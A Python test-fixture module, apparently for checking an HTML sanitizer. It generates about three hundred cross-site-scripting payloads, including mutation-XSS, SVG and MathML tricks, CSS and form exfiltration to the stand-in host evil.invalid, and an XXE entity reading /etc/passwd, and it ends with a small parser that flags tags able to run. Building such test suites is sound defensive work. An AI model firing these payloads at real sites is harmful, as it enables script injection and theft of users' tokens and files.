"""Texts that try to become a program wherever they are shown: names, outputs, errors, values."""

from __future__ import annotations

from html.parser import HTMLParser
from itertools import product
from typing import Final

_RUN: Final = "globalThis.__hit=1"

_TAGS: Final = (
    "<script>{}</script>",
    "<ScRiPt >{}</ScRiPt>",
    "<scr<script>ipt>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{}</script>'></foreignObject></svg>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{} autofocus onfocus={}>x</a>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<body onload={}>",
    "<style>@import 'javascript:{}'</style>",
    "<link rel=stylesheet href=javascript:{}>",
    "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<base href=javascript:{}//>",
    "<form action=javascript:{}><button>x</button></form>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<template><script>{}</script></template>",
)
_AROUND: Final = ("{}", '">{}', "'>{}", "</td></tr></table>{}", "-->{}<!--", "]]>{}", "\x00{}", "</pre></summary>{}")

PAYLOADS: Final = [around.format(tag.replace("{}", _RUN)) for around, tag in product(_AROUND, _TAGS)]
"""Two hundred of them; each sets a variable if it runs."""

_TO: Final = "//evil.invalid/__hit"
_NAMESPACES: Final = (
    '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="javascript:{}"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={}>#x"/></svg>',
    "<svg><set attributeName=href to=javascript:{} /><a>x</a></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<svg><title><img src=x onerror={}></title></svg>",
    "<svg><desc><iframe src=javascript:{}></iframe></desc></svg>",
    "<svg><image href=x onerror={} /></svg>",
    "<svg><handler type=text/javascript>{}</handler></svg>",
    "<svg></p><style><g title='</style><img src=x onerror={}>'>",
    "<math href=javascript:{}>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{}>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={}></annotation-xml></math>",
    "<math><mi//xlink:href='data:text/html,<script>{}</script>'>x</math>",
    "<html:script xmlns:html=http://www.w3.org/1999/xhtml>{}</html:script>",
    '<?xml version="1.0"?><?xml-stylesheet href="javascript:{}"?><x/>',
    '<!DOCTYPE x [<!ENTITY run SYSTEM "file:///etc/passwd">]><x>&run;{}</x>',
)
_MUTATIONS: Final = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<textarea><p title='</textarea><img src=x onerror={}>'>",
    "<title><p title='</title><img src=x onerror={}>'>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<noembed><p title='</noembed><img src=x onerror={}>'>",
    "<noframes><p title='</noframes><img src=x onerror={}>'>",
    "<plaintext><img src=x onerror={}>",
    "<select><template><img src=x onerror={}></template></select>",
    "<table><td><svg><p><img src=x onerror={}>",
    "<a title='`><img src=x onerror={}>`'>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "&lt;img src=x onerror={}&gt;",
    "&#60;img src=x onerror={}&#62;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "<img/src=x/onerror={}//",
    "<img src=x onerror\n=\n{}>",
    "\ufeff<script>{}</script>",
    "<\x0cscript\x0c>{}</script>",
)
_STYLES: Final = (
    f"<style>input[value^=a]{{background:url({_TO}?a)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({_TO});unicode-range:U+41}}</style>",
    f"<style>@import url({_TO});</style>",
    f"<p style='background:url({_TO})'>x</p>",
    f"<p style='list-style-image:url({_TO})'>x</p>",
    f"<p style='position:fixed;inset:0;z-index:2147483647;background:url({_TO})'>sign in</p>",
    f"</style><link rel=stylesheet href={_TO}>",
    f"}} body {{ background: url({_TO}) }} {{",
    "<p style='width:expression({})'>x</p>",
    "<p style='-moz-binding:url(javascript:{})'>x</p>",
)
_CLOBBERING: Final = (
    "<img name=jupyterapp id=__hit>",
    "<form name=body id=__hit><input name=firstChild></form>",
    "<a id=defaultView></a><a id=defaultView name=url href=cid:__hit>",
    "<iframe name=top src=about:blank#__hit></iframe>",
    "<form id=document><input name=cookie value=__hit></form>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<%= {} %>",
    "#{{{}}}",
    "{{% raw %}}{{{{ {} }}}}{{% endraw %}}",
    "<div ng-app ng-csp>{{{{$eval('{}')}}}}</div>",
    "<x-y is=x-script>{}</x-y>",
    "<slot name=__hit onslotchange={}></slot>",
)
_MARKDOWN: Final = (
    "[click](javascript:{})",
    "[click]( java\tscript:{})",
    '![x](x"onerror="{})',
    f"![x](https:{_TO})",
    "[x]: javascript:{}\n[x]",
    "<javascript:{}>",
    f"[![x](https:{_TO})](vbscript:x)",
    "$$\\href{{javascript:{}}}{{x}}$$",
    "```{{=html}}\n<script>{}</script>\n```",
    "\x1b]8;;javascript:{}\x07click\x1b]8;;\x07",
    f"\x1b[31m<a href={_TO}>red</a>\x1b[0m",
)
_UNSEEN: Final = tuple(
    f"{mark}<script>{{}}</script>{mark}" for mark in "\u202e\u2066\u200f\u200b\u2028\u2029\u061c\u00ad\u180e\U000e0041"
)
_NAMES: Final = ("__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "__defineGetter__")
_ADDRESSED: Final = (
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<iframe src='data:text/html;base64,X19oaXQ=' title=__hit></iframe>",
    "<object data='data:text/html,<script>parent.{}</script>'></object>",
    "<embed type=image/svg+xml src='data:image/svg+xml,<svg onload={}>'>",
    "<a href=blob:null/__hit download>x</a>",
    "<iframe srcdoc='&lt;script&gt;parent.{}&lt;/script&gt;'></iframe>",
    f"<meta http-equiv=refresh content='0;url={_TO}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *' name=__hit>",
    f"<base href={_TO}>",
    f"<base target=_top href={_TO}>",
    f"<form action={_TO} method=post><input name=token></form>",
    f"<button form=x formaction={_TO}>x</button>",
    f"<a ping={_TO} href=#>x</a>",
    f"<link rel=prefetch href={_TO}>",
)

OTHER_KINDS: Final = [
    *(
        text.replace("{{", "{").replace("}}", "}").replace("{}", _RUN)
        for text in (*_NAMESPACES, *_MUTATIONS, *_STYLES, *_CLOBBERING, *_MARKDOWN, *_UNSEEN, *_ADDRESSED)
    ),
    *_NAMES,
    f"<img alt='{'a' * 8000}' src=x onerror={_RUN}>",
    f"<div {' '.join(f'data-{at}={at}' for at in range(500))} onclick={_RUN}>",
]
"""Another hundred: other namespaces, what a parser changes, addresses, styles, names of JavaScript."""

_FORBIDDEN: Final = frozenset(
    "script iframe object embed link meta base form input video style template svg math body".split()  # noqa: SIM905
)


_ADDRESSES: Final = frozenset({"href", "src", "srcdoc", "action", "formaction", "data", "xlink:href"})
_HARMLESS: Final = ("data:image/svg+xml;base64,", "data:image/png;base64,", "http://", "https://", "#")


class _Programs(HTMLParser):
    """Parser that collects what could run."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag or an attribute that could run something."""
        if tag in _FORBIDDEN:
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (name in _ADDRESSES and not (value or "").startswith(_HARMLESS)):
                self.found.append(f"{tag} {name}={value}")


def programs_in(html: str) -> list[str]:
    """Return everything in a piece of HTML that a page could run."""
    parser = _Programs()
    parser.feed(html)
    parser.close()
    return parser.found
